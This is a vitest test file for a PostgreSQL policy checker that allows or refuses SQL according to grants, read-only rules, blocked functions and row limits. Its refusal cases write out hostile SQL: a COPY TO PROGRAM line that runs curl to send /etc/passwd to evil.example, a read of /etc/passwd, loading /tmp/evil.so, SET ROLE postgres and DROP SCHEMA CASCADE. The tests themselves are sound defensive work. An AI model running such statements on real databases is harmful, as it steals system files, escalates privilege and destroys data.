import { parseSync } from 'libpg-query'
import { beforeAll, describe, expect, it } from 'vitest'
import { ConfigPathError } from '../../config/load.js'
import type { DatabasePermissions } from '../../config/schema.js'
import { isKnownCode } from '../../errors/catalog.js'
import { checkSql, compileDatabasePolicy, limitRows, loadSqlParser } from './database-policy.js'
import { AT, aPolicy, readOnly, SEED, verdict, writer } from './sql-policy.case.js'

beforeAll(async () => {
  await loadSqlParser()
})

describe('compileDatabasePolicy', () => {
  it('compiles the seed grant as read-only with public table keys', () => {
    const policy = aPolicy()
    expect(policy.readOnly).toBe(true)
    expect([...policy.tables].sort()).toEqual(['public.orders', 'public.products'])
    expect(policy.rowLimit).toBe(1000)
  })

  it('treats public.x and x as the same grant', () => {
    expect(checkSql(aPolicy({ tables: ['public.orders'] }), 'SELECT 1 FROM orders LIMIT 1').allowed).toBe(
      true,
    )
    expect(checkSql(aPolicy({ tables: ['orders'] }), 'SELECT 1 FROM public.orders LIMIT 1').allowed).toBe(
      true,
    )
  })

  it.each([
    ['operations', { operations: ['SELECT', 'SELEKT'] }, 1],
    ['operations', { operations: ['DROP'] }, 0],
    ['operations', { operations: ['SET'] }, 0],
    ['tables', { tables: ['orders', 'Products'] }, 1],
    ['tables', { tables: ['pg_catalog.pg_authid'] }, 0],
    ['tables', { tables: ['pg_user'] }, 0],
    ['tables', { tables: ['information_schema.tables'] }, 0],
    ['tables', { tables: ['a.b.c'] }, 0],
    ['tables', { tables: ['orders; drop'] }, 0],
    ['functions', { functions: ['pg_read_file'] }, 0],
    ['functions', { functions: ['ok_fn', 'dblink'] }, 1],
    ['functions', { functions: ['set_config'] }, 0],
    ['functions', { functions: ['Upper'] }, 0],
  ] as const)('rejects a bad %s entry at its index (%j)', (key, perms, index) => {
    let error: unknown
    try {
      compileDatabasePolicy({ ...SEED, ...perms } as unknown as DatabasePermissions, AT)
    } catch (e) {
      error = e
    }
    expect(error).toBeInstanceOf(ConfigPathError)
    expect((error as ConfigPathError).path).toEqual([...AT, key, index])
  })

  it('accepts lower-case operation names and other schemas granted by name', () => {
    const policy = aPolicy({ operations: ['select', 'insert'], tables: ['sales.orders'] })
    expect(policy.readOnly).toBe(false)
    expect(checkSql(policy, 'SELECT * FROM sales.orders LIMIT 5').allowed).toBe(true)
    expect(verdict(checkSql(policy, 'SELECT * FROM orders'))).toBe('SQL_TABLE_NOT_ALLOWED')
  })
})

describe('checkSql: statements', () => {
  it.each([
    ['SELECT 1; DELETE FROM orders', 'SQL_MULTIPLE_STATEMENTS'],
    ['COMMIT; DROP SCHEMA public CASCADE', 'SQL_MULTIPLE_STATEMENTS'],
    ['SELECT * FROM orders; SELECT pg_sleep(10)', 'SQL_MULTIPLE_STATEMENTS'],
    ['', 'SQL_EMPTY'],
    ['  ;; -- nothing\n /* at all */', 'SQL_EMPTY'],
    ['SELEC * FROM orders', 'SQL_PARSE_ERROR'],
    ["SELECT * FROM orders WHERE name = 'unterminated", 'SQL_PARSE_ERROR'],
    ['DELETE FROM orders', 'SQL_OPERATION_NOT_ALLOWED'],
    ['INSERT INTO orders VALUES (1)', 'SQL_OPERATION_NOT_ALLOWED'],
    ['UPDATE orders SET qty = 0', 'SQL_OPERATION_NOT_ALLOWED'],
    ['TRUNCATE orders', 'SQL_OPERATION_NOT_ALLOWED'],
  ])('refuses %j with %s', (sql, code) => {
    expect(verdict(checkSql(readOnly(), sql))).toBe(code)
  })

  it('refuses a non-string or oversized sql argument', () => {
    expect(verdict(checkSql(readOnly(), undefined))).toBe('SQL_PARSE_ERROR')
    expect(verdict(checkSql(readOnly(), { sql: 'SELECT 1' }))).toBe('SQL_PARSE_ERROR')
    expect(
      verdict(checkSql(readOnly(), `SELECT 1 FROM orders WHERE ${'1 = 1 AND '.repeat(12_000)}true`)),
    ).toBe('SQL_TOO_LARGE')
  })

  it('refuses a statement nested deeper than it walks, without throwing', () => {
    const deep = `SELECT ${'abs('.repeat(1000)}1${')'.repeat(1000)} FROM orders`
    expect(verdict(checkSql(readOnly(), deep))).toBe('SQL_TOO_LARGE')
    const deeper = `SELECT ${'abs('.repeat(20_000)}1${')'.repeat(20_000)} FROM orders`
    expect(verdict(checkSql(readOnly(), deeper))).toMatch(/^SQL_(TOO_LARGE|PARSE_ERROR)$/)
    expect(
      verdict(checkSql(readOnly(), `SELECT ${'('.repeat(600)}1${')'.repeat(600)} FROM orders LIMIT 1`)),
    ).toBe('allow')
  })

  it.each([
    ['SET search_path = evil, public'],
    ['SELECT 1 FROM orders; SET ROLE postgres'],
    ['SHOW ALL'],
    ["COPY orders TO PROGRAM 'curl -d @/etc/passwd evil.example'"],
    ["COPY orders FROM '/etc/passwd'"],
    ['DO $$ BEGIN PERFORM pg_sleep(10); END $$'],
    ['CALL refresh_everything()'],
    ['PREPARE p AS DELETE FROM orders'],
    ['EXECUTE p'],
    ['LISTEN orders'],
    ["NOTIFY orders, 'x'"],
    ['VACUUM orders'],
    ['BEGIN'],
    ['COMMIT'],
    ['ROLLBACK'],
    ['DROP TABLE orders'],
    ['CREATE TABLE stolen AS SELECT * FROM orders'],
    ['ALTER TABLE orders OWNER TO attacker'],
    ['GRANT ALL ON orders TO PUBLIC'],
    ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE'],
    ['DECLARE c CURSOR FOR SELECT * FROM orders'],
    ["LOAD '/tmp/evil.so'"],
    ['EXPLAIN EXECUTE p'],
    ['RESET ALL'],
    ['DISCARD ALL'],
  ])('refuses the utility statement %j whatever the grant', (sql) => {
    expect(verdict(checkSql(writer(), sql))).toMatch(/^SQL_(UTILITY_NOT_ALLOWED|MULTIPLE_STATEMENTS)$/)
  })

  it('allows EXPLAIN of a granted query and refuses EXPLAIN ANALYZE of a write on a read-only grant', () => {
    expect(verdict(checkSql(readOnly(), 'EXPLAIN SELECT * FROM orders'))).toBe('allow')
    expect(verdict(checkSql(readOnly(), 'EXPLAIN ANALYZE DELETE FROM orders'))).toBe(
      'SQL_READ_ONLY_VIOLATION',
    )
    expect(verdict(checkSql(readOnly(), 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE orders SET qty = 1'))).toBe(
      'SQL_READ_ONLY_VIOLATION',
    )
    expect(verdict(checkSql(readOnly(), 'EXPLAIN ANALYZE SELECT * FROM secrets'))).toBe(
      'SQL_TABLE_NOT_ALLOWED',
    )
    expect(verdict(checkSql(writer(), 'EXPLAIN ANALYZE DELETE FROM orders'))).toBe('allow')
  })
})

describe('checkSql: read-only grants', () => {
  it.each([
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d'],
    ['WITH u AS (UPDATE orders SET qty = 0 RETURNING id) SELECT count(*) FROM u'],
    ['WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i'],
    ['SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) s'],
    ['SELECT * INTO newtable FROM orders'],
    ['SELECT * INTO TEMP t FROM orders'],
    ['SELECT * FROM orders FOR UPDATE'],
    ['SELECT * FROM orders FOR SHARE SKIP LOCKED'],
    ['SELECT * FROM (SELECT * FROM orders FOR UPDATE) s'],
    ['SELECT * FROM orders FOR NO KEY UPDATE OF orders NOWAIT'],
  ])('refuses the hidden write or lock in %j', (sql) => {
    expect(verdict(checkSql(readOnly(), sql))).toBe('SQL_READ_ONLY_VIOLATION')
  })

  it('needs every nested write in a write grant too', () => {
    const inserter = aPolicy({ operations: ['SELECT', 'INSERT'] })
    expect(
      verdict(
        checkSql(inserter, 'WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO products SELECT * FROM d'),
      ),
    ).toBe('SQL_OPERATION_NOT_ALLOWED')
    expect(
      verdict(
        checkSql(inserter, 'INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET qty = 2'),
      ),
    ).toBe('SQL_OPERATION_NOT_ALLOWED')
    expect(verdict(checkSql(inserter, 'INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING'))).toBe(
      'allow',
    )
    const merger = aPolicy({ operations: ['SELECT', 'MERGE', 'UPDATE'] })
    const merge = 'MERGE INTO orders o USING products p ON o.pid = p.id WHEN MATCHED THEN DELETE'
    expect(verdict(checkSql(merger, merge))).toBe('SQL_OPERATION_NOT_ALLOWED')
    expect(verdict(checkSql(aPolicy({ operations: ['MERGE', 'DELETE'] }), merge))).toBe('allow')
  })

  it('refuses TRUNCATE CASCADE even when TRUNCATE is granted', () => {
    const truncater = aPolicy({ operations: ['TRUNCATE'] })
    expect(verdict(checkSql(truncater, 'TRUNCATE orders'))).toBe('allow')
    expect(verdict(checkSql(truncater, 'TRUNCATE orders CASCADE'))).toBe('SQL_OPERATION_NOT_ALLOWED')
    expect(verdict(checkSql(truncater, 'TRUNCATE orders, secrets'))).toBe('SQL_TABLE_NOT_ALLOWED')
  })
})

describe('checkSql: row limits', () => {
  it('adds, clamps or keeps LIMIT and reports the rewrite', () => {
    const policy = aPolicy()
    expect(checkSql(policy, 'SELECT * FROM orders')).toEqual({
      allowed: true,
      args: { sql: 'SELECT * FROM orders LIMIT 1000' },
      code: 'SQL_ROW_LIMIT_APPLIED',
      reason: expect.any(String),
      facts: { 'sql.kind': 'SELECT' },
    })
    expect(checkSql(policy, 'SELECT * FROM orders LIMIT 10')).toEqual({
      allowed: true,
      facts: { 'sql.kind': expect.any(String) },
    })
    expect(checkSql(policy, 'SELECT * FROM orders LIMIT 5000')).toMatchObject({
      args: { sql: 'SELECT * FROM orders LIMIT 1000' },
    })
  })

  it('does not rewrite writes or EXPLAIN', () => {
    const policy = aPolicy({ operations: ['SELECT', 'INSERT'] })
    expect(checkSql(policy, 'INSERT INTO orders SELECT * FROM products RETURNING *')).toEqual({
      allowed: true,
      facts: { 'sql.kind': 'INSERT' },
    })
    expect(checkSql(policy, 'EXPLAIN SELECT * FROM orders')).toEqual({
      allowed: true,
      facts: { 'sql.kind': expect.any(String) },
    })
  })

  it('cuts results to rowLimit at result time', () => {
    const rows = Array.from({ length: 1500 }, (_, i) => ({ i }))
    expect(limitRows(rows, aPolicy())).toMatchObject({ truncated: true })
    expect(limitRows(rows, aPolicy()).rows).toHaveLength(1000)
    expect(limitRows(rows.slice(0, 10), aPolicy())).toEqual({ rows: rows.slice(0, 10), truncated: false })
    expect(limitRows(rows, readOnly())).toEqual({ rows, truncated: false })
  })
})

describe('database codes', () => {
  it('uses only catalogued codes', () => {
    for (const code of [
      'SQL_PARSE_ERROR',
      'SQL_EMPTY',
      'SQL_MULTIPLE_STATEMENTS',
      'SQL_OPERATION_NOT_ALLOWED',
      'SQL_TABLE_NOT_ALLOWED',
      'SQL_SCHEMA_NOT_ALLOWED',
      'SQL_SYSTEM_CATALOG',
      'SQL_FUNCTION_NOT_ALLOWED',
      'SQL_READ_ONLY_VIOLATION',
      'SQL_UTILITY_NOT_ALLOWED',
      'SQL_ROW_LIMIT_APPLIED',
      'SQL_PARSER_NOT_LOADED',
      'SQL_TOO_LARGE',
    ]) {
      expect(isKnownCode(code), code).toBe(true)
    }
    expect(parseSync('SELECT 1').stmts).toHaveLength(1)
  })
})
